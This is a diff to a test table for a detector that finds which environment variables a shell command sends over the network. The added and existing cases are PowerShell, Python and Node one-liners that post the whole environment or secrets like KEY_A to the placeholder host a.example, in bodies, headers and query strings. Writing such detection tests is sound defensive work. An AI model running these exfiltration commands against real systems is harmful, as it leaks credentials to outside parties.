@@ -16,7 +16,23 @@ it.each([
   ["pwsh -c '$u = 1; irm $u -Body $env:LANG'", [{ variable: 'LANG', as: 'data' }]],
   ["pwsh -c 'gci env: | ConvertTo-Json | irm -Method Put -Uri https://a.example'", [{ as: 'data' }]],
   [`python3 -c 'import requests, os; requests.post("https://a.example", json=dict(os.environ))'`, [{ as: 'data' }]],
-  [`python3 -c 'import requests, os; requests.post("https://a.example", json=os.environ["LANG"])'`, undefined],
+  [
+    `python3 -c 'import requests, os; requests.post("https://a.example", json={"l": os.environ["LANG"]}, headers={"X": os.environ["KEY_A"]})'`,
+    [
+      { variable: 'LANG', host: 'a.example', as: 'data' },
+      { variable: 'KEY_A', host: 'a.example', as: 'login' },
+    ],
+  ],
+  [
+    `node -e 'const k = process.env.KEY_A; fetch("https://a.example/?k=" + encodeURIComponent(k))'`,
+    [{ variable: 'KEY_A', host: 'a.example', as: 'data' }],
+  ],
+  [`node -e 'fetch(process.env.KEY_A + "/health")'`, undefined],
+  [`node -e 'console.log(process.env.KEY_A); fetch("https://a.example")'`, undefined],
+  [
+    `python3 -c 'import requests, os, hashlib; requests.get("https://a.example/" + hashlib.sha256(os.environ["KEY_A"]).hexdigest())'`,
+    undefined,
+  ],
   ["pwsh -c 'echo $env:APP_TOKEN'", undefined],
   ['curl -d "$APP_TOKEN" https://a.example', undefined],
 ])('the variables that code sends in requests stand on its command: %s', (text, sends) => {
